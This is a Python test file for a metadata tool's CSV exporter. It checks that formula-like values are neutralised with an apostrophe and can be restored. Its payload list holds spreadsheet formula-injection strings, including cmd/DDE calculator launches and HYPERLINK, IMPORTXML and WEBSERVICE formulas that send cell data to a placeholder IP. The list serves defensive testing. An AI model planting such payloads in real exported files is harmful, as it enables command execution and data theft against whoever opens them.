"""CSV gives every value back, and none of them is a formula."""

from __future__ import annotations

import csv
import io
import math
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from tests.core.exporting.records import EVERY_TYPE, record

from metaextract_core.exporting.columns import choose
from metaextract_core.exporting.csv import Table, neutralised, restored
from metaextract_core.record import Record

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?x="&A1,"click")',
    "=IMPORTXML(CONCAT(\"http://192.0.2.1/?v=\", CONCATENATE(A2:E2)), \"//a/a10\")",
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "-1+1",
    "--1",
    "-",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "'=1+1",
    "\"=1+1",
    "\u201c=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    " ' =1+1",
]  # fmt: skip
HARMLESS = ["", "Canon", "1+1=2", "a@b", "2024-05-01T12:00:00+02:00", "'tis", '"quoted"', "; =x"]


def written(*records: Record, columns: list[str] | None = None, bom: bool = False) -> bytes:
    stream = io.BytesIO()
    table = Table(stream, choose(columns), bom=bom)
    for one in records:
        table.write(one)
    return stream.getvalue()


def read(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True))


def cell(value: Any, name: str = "camera.make") -> str:
    one = record(**{name.replace(".", "__"): value})
    (row,) = read(written(one, columns=[name]))
    return row[name]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_f21_a_formula_gets_an_apostrophe_that_can_be_taken_away(payload: str) -> None:
    assert cell(payload) == f"'{payload}"
    assert restored(cell(payload)) == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_f21_neither_paths_nor_lists_nor_foreign_values_are_formulas(payload: str) -> None:
    (row,) = read(written(record(payload, document__keywords=[payload, "b", payload])))
    assert row["file.path"] == f"'{payload}"
    assert row["document.keywords"] == f"'{payload}; b; '{payload}"
    assert cell(payload, "image.width") == f"'{payload}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize(
    ("name", "value", "text"),
    [
        ("gps.longitude", -3.5, "-3.5"),
        ("gps.altitude", -12, "-12"),
        ("image.width", 10**400, "1" + "0" * 400),
    ],
)
def test_f21_numbers_of_number_fields_are_left_numbers(name: str, value: Any, text: str) -> None:
    assert cell(value, name) == text


@given(st.text(st.characters(exclude_categories=["Cs"])))
@example("a\r\nb")
@example("\0")
@example('a"b,c')
def test_f21_parsing_gives_the_value_or_an_apostrophe_and_the_value(text: str) -> None:
    found = cell(text)
    assert found in (text, f"'{text}")
    assert restored(found) == text
    bare = found.lstrip(" \t\r\n\"'")
    assert found.startswith("'") or not bare.startswith(tuple("=+-@"))


@given(st.text("'\"=+-@ \t\r\nax", max_size=8))
def test_neutralising_can_be_undone_whatever_the_text(text: str) -> None:
    assert restored(neutralised(text)) == text


def test_f21_what_only_looks_like_a_number_is_text() -> None:
    assert cell(-math.inf, "gps.altitude") == "null"
    assert cell("-1", "gps.altitude") == "'-1"


def test_f49_nul_is_kept_and_half_a_surrogate_pair_is_u_fffd() -> None:
    assert cell("a\0b") == "a\0b"
    assert cell("a\ud800b") == "a\ufffdb"


def test_each_type_has_its_form() -> None:
    content = written(
        record(**EVERY_TYPE), columns=[name.replace("__", ".") for name in EVERY_TYPE]
    )
    assert content.decode() == (
        "file.path,file.digest,camera.make,image.width,capture.f_number,image.transparency,"
        "capture.time,document.keywords\r\n"
        "/a.jpg,blake3:00,Canon,640,2.8,false,2024-05-01T12:00:00+02:00,one; two; three\r\n"
    )


def test_what_a_record_has_not_is_an_empty_cell() -> None:
    one = record()
    one.file.digest = None
    (row,) = read(written(one))
    assert set(row.values()) == {"/a.jpg", ""}


def test_without_records_there_is_the_row_of_names() -> None:
    assert written(columns=["camera.make"]) == b"file.path,file.digest,camera.make\r\n"


def test_a_byte_order_mark_comes_first_and_only_on_request() -> None:
    assert written(bom=True) == b"\xef\xbb\xbf" + written()
